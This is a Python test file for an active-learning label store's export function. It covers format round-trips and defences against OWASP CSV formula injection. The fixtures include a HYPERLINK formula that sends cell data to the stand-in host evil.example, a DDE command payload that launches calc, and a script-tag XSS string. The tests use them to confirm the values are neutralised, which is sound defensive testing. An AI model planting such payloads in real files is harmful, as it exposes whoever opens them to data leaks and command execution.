from __future__ import annotations

import json

import pandas as pd
import pytest

from activelearn.errors import ConfigError
from activelearn.oracles import read_answers
from activelearn.store import Store, export_labels

TEXTS = ["plain", 'with "quotes", commas\nand a line break', "<script>alert(1)</script>", "é ü 😀"]


def _labeled_project(store: Store):
    info = store.create_project(
        "x", ["neg", "pos"], texts=TEXTS, ids=["a", "b", "c", "d"],
        meta=[{"source": "s1"}, None, {"n": 3}, None], settings={"heldout_fraction": 0.0},
    )  # fmt: skip
    who = store.authenticate(store.add_annotator(info.id, "alice"))
    for version in (1, 2):  # the model versions whose predictions the answers saw
        assert store.start_version(info.id, [], 0, 0) == version
        store.finish_version(info.id, version, metrics={})
    for n, label in enumerate(["pos", "neg", "pos"]):
        item, _ = store.next_item(who)
        store.submit(who, item.id, f"submission-{n}", value=label, model_version=n or None)
    item, _ = store.next_item(who)
    store.submit(who, item.id, "submission-flag", kind="flag", note="unreadable")
    return info


def _read(path, fmt):
    if fmt == "csv":
        return pd.read_csv(path, dtype=str, keep_default_na=False)
    if fmt == "jsonl":
        return pd.read_json(path, lines=True, dtype=False)
    return pd.read_parquet(path)


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_export_round_trips(tmp_path, fmt):
    store = Store.open(tmp_path / "one")
    info = _labeled_project(store)
    path = tmp_path / f"labels.{fmt}"
    assert export_labels(store, info.id, path) == 4
    frame = _read(path, fmt)
    assert list(frame.columns)[:4] == ["id", "text", "image", "label"]
    labeled = frame[frame["flagged"].astype(str) == "False"]
    flagged = frame[frame["flagged"].astype(str) == "True"]
    assert len(labeled) == 3 and len(flagged) == 1
    assert flagged["note"].tolist() == ["unreadable"]
    by_id = {r.id: r for r in store.labels(info.id)}
    for row in labeled.itertuples():
        assert row.label == by_id[row.id].label
        assert row.annotator == "alice"
        assert row.text == TEXTS["abcd".index(row.id)]
        assert pd.Timestamp(row.time).timestamp() == pytest.approx(by_id[row.id].time, abs=1e-3)

    # Round trip: a new project made from the export exports the same labels and texts.
    again = Store.open(tmp_path / "two")
    copy = again.create_project(
        "y", ["neg", "pos"], texts=labeled["text"].tolist(), ids=labeled["id"].tolist(),
        labels=labeled["label"].tolist(),
    )  # fmt: skip
    second = tmp_path / f"again.{fmt}"
    export_labels(again, copy.id, second)
    columns = ["id", "text", "label"]
    pd.testing.assert_frame_equal(
        _read(second, fmt)[columns].reset_index(drop=True),
        labeled[columns].reset_index(drop=True),
    )


def test_jsonl_keeps_meta_as_json(tmp_path):
    store = Store.open(tmp_path / "p")
    info = _labeled_project(store)
    export_labels(store, info.id, tmp_path / "labels.jsonl")
    rows = [json.loads(line) for line in (tmp_path / "labels.jsonl").read_text().splitlines()]
    metas = {row["id"]: row["meta"] for row in rows}
    assert json.loads(metas["a"]) == {"source": "s1"}


def test_export_answers_a_file_oracle_batch(tmp_path):
    """The file oracle reads `id` and `label`: an export can answer its batch directly."""
    store = Store.open(tmp_path / "p")
    info = _labeled_project(store)
    export_labels(store, info.id, tmp_path / "labels.csv")
    answers = read_answers(tmp_path / "labels.csv")
    assert answers == {r.id: r.label for r in store.labels(info.id)}


def test_unknown_format_is_refused(tmp_path):
    store = Store.open(tmp_path / "p")
    info = _labeled_project(store)
    with pytest.raises(ConfigError, match="use one of csv, jsonl, parquet"):
        export_labels(store, info.id, tmp_path / "labels.xlsx")


FORMULAS = {
    "eq": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "dash": "- a bullet point",
    "number": "-5",
}


def _formula_project(store: Store):
    info = store.create_project(
        "f", ["-1", "+1"], texts=list(FORMULAS.values()), ids=list(FORMULAS),
        settings={"heldout_fraction": 0.0},
    )  # fmt: skip
    who = store.authenticate(store.add_annotator(info.id, "=cmd"))
    while (item := store.next_item(who)[0]) is not None:
        store.submit(who, item.id, f"submission-{item.id}", value="-1")
    return info


def test_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
    """OWASP CSV injection: a leading ' makes =, +, -, @, tab and CR cells plain text."""
    store = Store.open(tmp_path / "p")
    info = _formula_project(store)
    export_labels(store, info.id, tmp_path / "labels.csv")
    frame = pd.read_csv(tmp_path / "labels.csv", dtype=str, keep_default_na=False)
    texts = dict(zip(frame["id"], frame["text"], strict=True))
    for key, text in FORMULAS.items():
        assert texts[key] == (text if key == "number" else "'" + text), key
    assert set(frame["annotator"]) == {"'=cmd"}
    assert set(frame["label"]) == {"-1"}  # a plain number is no formula: kept for the oracle


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_jsonl_and_parquet_keep_the_raw_values(tmp_path, fmt):
    store = Store.open(tmp_path / "p")
    info = _formula_project(store)
    export_labels(store, info.id, tmp_path / f"labels.{fmt}")
    frame = _read(tmp_path / f"labels.{fmt}", fmt)
    assert dict(zip(frame["id"], frame["text"], strict=True)) == FORMULAS
    assert set(frame["annotator"]) == {"=cmd"}


def test_parquet_model_version_is_a_nullable_integer(tmp_path):
    store = Store.open(tmp_path / "p")
    info = _labeled_project(store)
    export_labels(store, info.id, tmp_path / "labels.parquet")
    frame = pd.read_parquet(tmp_path / "labels.parquet")
    assert str(frame["model_version"].dtype) == "Int64"
    # In answer order: no prediction shown, versions 1 and 2, then the flag (none).
    assert frame["model_version"].isna().tolist() == [True, False, False, True]
    assert frame["model_version"].dropna().tolist() == [1, 2]
